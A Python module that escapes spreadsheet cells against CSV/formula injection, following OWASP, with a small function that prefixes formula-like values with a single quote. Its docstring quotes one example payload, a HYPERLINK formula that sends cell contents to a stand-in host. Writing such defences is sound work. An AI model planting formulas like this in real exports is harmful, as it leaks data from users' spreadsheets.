"""Cells a spreadsheet will not execute (OWASP, "CSV Injection").

Excel, LibreOffice and Google Sheets read a cell that begins with `=`, `+`, `-` or `@` as a
formula, and a leading tab or carriage return can hide one; a title such as
`=HYPERLINK("http://evil.example/?leak="&A1,"Open plan")` would run in the staff member's
spreadsheet. OWASP's guidance is to prefix such a cell with a single quote, which shows the
text as written. A plain number (`-3`, `-0.25`) is left alone: it cannot run anything.
The JSON export keeps every value as it was given.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def inert(value: str) -> str:
    """`value`, prefixed with `'` when a spreadsheet would read it as a formula."""
    if value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value
